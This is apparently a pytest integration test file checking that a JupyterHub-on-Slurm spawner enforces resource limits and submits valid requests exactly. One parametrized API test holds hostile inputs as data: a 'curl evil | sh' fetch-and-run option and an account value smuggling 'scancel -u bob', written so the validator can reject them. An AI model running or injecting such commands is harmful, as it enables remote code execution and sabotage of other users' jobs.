"""The Server Options form and the REST API: limits enforced before Slurm sees anything, valid requests
submitted exactly as asked."""

from __future__ import annotations

import html
import json
import re
import shlex
from pathlib import Path

import pytest
import yaml
from hubclient import HubClient
from molhelpers import squeue_of
from testinfra.host import Host

from jupyterhub_hpc.cluster_rules import validate_cluster

SPAWNER_CONFIG = "/etc/jupyterhub/jupyterhub_config.d/50-batchspawner.json"
DEMO_SITE = Path(__file__).resolve().parents[3] / "inventories" / "demo" / "group_vars" / "all" / "site.yml"


def form_error(page: str) -> str:
    match = re.search(r'alert-danger">\s*(.*?)\s*</', page, re.S)
    return html.unescape(match.group(1).strip()) if match else ""


def post_form(client: HubClient, **fields: str) -> tuple[int, str, str]:
    resp = client.session.post(
        client.url("/hub/spawn"),
        data={"_xsrf": client.session.cookies.get("_xsrf") or "", **fields},
        allow_redirects=False,
        timeout=60,
    )
    return resp.status_code, resp.headers.get("location", ""), resp.text


def test_form_shows_the_clusters_fields_and_the_users_own_accounts(alice: HubClient) -> None:
    page = alice.session.get(alice.url("/hub/spawn"), timeout=60).text
    assert "Demo cluster" in page
    for label in ("Account", "Time (hours)", "Cores", "Memory (MB)", "User interface"):
        assert f">{label}</label>" in page
    accounts = re.findall(
        r'<option value="([^"]+)"[^>]*>[^<]+</option>', page.split('id="account"')[1].split("</select>")[0]
    )
    assert accounts == ["def-alice", "rrg-demo"]  # from sacctmgr: not bob's def-bob
    assert 'name="cores" id="cores" min="1" max="4"' in page


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"cores": "64"}, "Cores: 64 is above the maximum of 4"),
        ({"memory": "99999"}, "Memory (MB): 99999 is above the maximum of 8000"),
        ({"time": "9"}, "Time (hours): 9 is above the maximum of 8"),
        ({"account": "def-bob"}, "Account: 'def-bob' is not one of your accounts (def-alice, rrg-demo)"),
        ({"interface": "vscode"}, "User interface: 'vscode' is not one of lab, notebook, terminal"),
    ],
)
def test_form_beyond_the_limits_shows_the_error_and_submits_nothing(
    alice: HubClient, hub: Host, fields: dict[str, str], message: str
) -> None:
    base = {"account": "def-alice", "time": "1", "cores": "1", "memory": "512", "interface": "lab"}
    status, location, page = post_form(alice, **{**base, **fields})
    assert (status, location) == (200, "")  # no redirect to the spawn page: the form again, with the error
    assert form_error(page) == f"Error: {message}"
    assert 'id="spawn_form"' in page  # the form again, to correct and resubmit
    assert f'value="{next(iter(fields.values()))}"' in page or "select" in page  # the user's values are kept
    assert squeue_of(hub, "alice") == []


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"cores": "2", "memory": "99999"}, "Memory (MB): 99999 is above the maximum of 8000"),
        ({"cores": 3, "memory": 7000, "time": 0.25}, "Time (hours): 0.25 is below the minimum of 0.5"),
        ({"prologue": "curl evil | sh"}, "Unknown option(s): prologue"),
        ({"account": "def-alice; scancel -u bob"}, "Account: 'def-alice; scancel -u bob' is not a valid account name"),
        ({"gpu": "a100:1"}, "GPU: 'a100:1' is not offered (choices: none, no GPU on this hub)"),
    ],
)
def test_api_request_beyond_the_limits_is_refused_with_the_reason(
    alice: HubClient, hub: Host, options: dict[str, object], message: str
) -> None:
    resp = alice.start_server({"account": "def-alice", **options})
    assert resp.status_code == 400
    assert resp.json()["message"] == message
    assert squeue_of(hub, "alice") == []
    assert not alice.user_model()["servers"]


def test_valid_form_request_is_submitted_exactly(alice: HubClient, hub: Host) -> None:
    status, location, _page = post_form(
        alice, account="rrg-demo", time="1.5", cores="2", memory="1024", interface="notebook"
    )
    assert (status, location) == (302, "/hub/spawn-pending/alice")
    alice.wait_until_ready(timeout=120)
    ((job_id, *_rest),) = (line.split() for line in squeue_of(hub, "alice"))
    fields = dict(
        item.split("=", 1) for item in hub.check_output(f"scontrol show job -o {job_id}").split() if "=" in item
    )
    assert fields["Account"] == "rrg-demo"
    assert fields["TimeLimit"] == "01:30:00"
    assert fields["NumCPUs"] == "2"
    assert fields["MinMemoryNode"] == "1G"
    # The classic Notebook interface: the server lands on /tree.
    landing = alice.session.get(
        alice.server_url("/"), headers={"Authorization": f"token {alice.token}"}, allow_redirects=False, timeout=60
    )
    assert landing.headers["location"].split("?")[0].endswith("/user/alice/tree")
    alice.stop_server()
    assert squeue_of(hub, "alice") == []


@pytest.mark.parametrize(("interface", "page"), [("terminal", "/terminals/1"), ("lab", "/lab")])
def test_interface_lands_on_its_page(alice: HubClient, interface: str, page: str) -> None:
    resp = alice.start_server({"account": "def-alice", "interface": interface})
    assert resp.status_code in (201, 202), resp.text
    alice.wait_until_ready(timeout=120)
    auth = {"Authorization": f"token {alice.token}"}
    landing = alice.session.get(alice.server_url("/"), headers=auth, allow_redirects=False, timeout=60)
    assert landing.headers["location"].split("?")[0] == f"/user/alice{page}"
    shown = alice.session.get(alice.server_url(page), headers=auth, timeout=60)
    assert shown.status_code == 200
    if interface == "lab":  # no call outside the cluster: no news feed, no extension index
        config = re.search(r'<script id="jupyter-config-data" type="application/json">(.*?)</script>', shown.text, re.S)
        assert config, shown.text[:2000]
        page_config = json.loads(config.group(1))
        assert page_config["news"] == {"disabled": True}, page_config.get("news")
        assert page_config["extensionManager"]["can_install"] is False, page_config["extensionManager"]
    alice.stop_server()


# -- one shape each: the hub runs on the preflight's model, and a job script is made from the validated request ----
def test_the_hub_runs_on_the_model_the_preflight_validated(hub: Host) -> None:
    """The spawner's configuration carries the preflight's output for the inventory's hpc_cluster (normalized, with
    its schema version), and the hub's own package loads it as it is."""
    shipped = json.loads(hub.check_output(f"cat {SPAWNER_CONFIG}"))["HPCSlurmSpawner"]["cluster"]
    assert shipped == validate_cluster(yaml.safe_load(DEMO_SITE.read_text())["hpc_cluster"]).to_data()
    load = (
        "import json, sys; from jupyterhub_hpc.model import Cluster; "
        "print(Cluster.from_data(json.load(open(sys.argv[1]))['HPCSlurmSpawner']['cluster']).to_json())"
    )
    loaded = hub.check_output(f"/opt/jupyterhub/hub/bin/python -I -c {shlex.quote(load)} {SPAWNER_CONFIG}")
    assert json.loads(loaded) == shipped


def test_an_api_requests_job_script_holds_the_validated_values_only(alice: HubClient, hub: Host) -> None:
    resp = alice.start_server({"account": "def-alice", "cores": 2, "memory": "1G", "time": 1.5, "interface": "lab"})
    assert resp.status_code in (201, 202), resp.text
    alice.wait_until_ready(timeout=120)
    ((job_id, *_rest),) = (line.split() for line in squeue_of(hub, "alice"))
    script = hub.check_output(f"scontrol write batch_script {job_id} -")
    # "#SBATCH --name=value", or a flag ("--no-requeue") with the value "".
    directives = dict((*line.split("=", 1), "")[:2] for line in script.splitlines() if line.startswith("#SBATCH "))
    assert sorted(directives) == sorted(
        f"#SBATCH --{name}"
        for name in (
            *("job-name", "output", "chdir", "export", "nodes", "ntasks", "no-requeue"),  # the role's template
            *("partition", "account", "time", "mem", "cpus-per-task"),  # the validated request (no GPU asked)
        )
    )
    request = {key: directives[f"#SBATCH --{key}"] for key in ("partition", "account", "time", "mem", "cpus-per-task")}
    assert request == {
        "partition": "interactive",
        "account": "def-alice",
        "time": "01:30:00",
        "mem": "1024M",
        "cpus-per-task": "2",
    }
    assert directives["#SBATCH --no-requeue"] == ""  # a server's job is never run twice
    alice.stop_server()
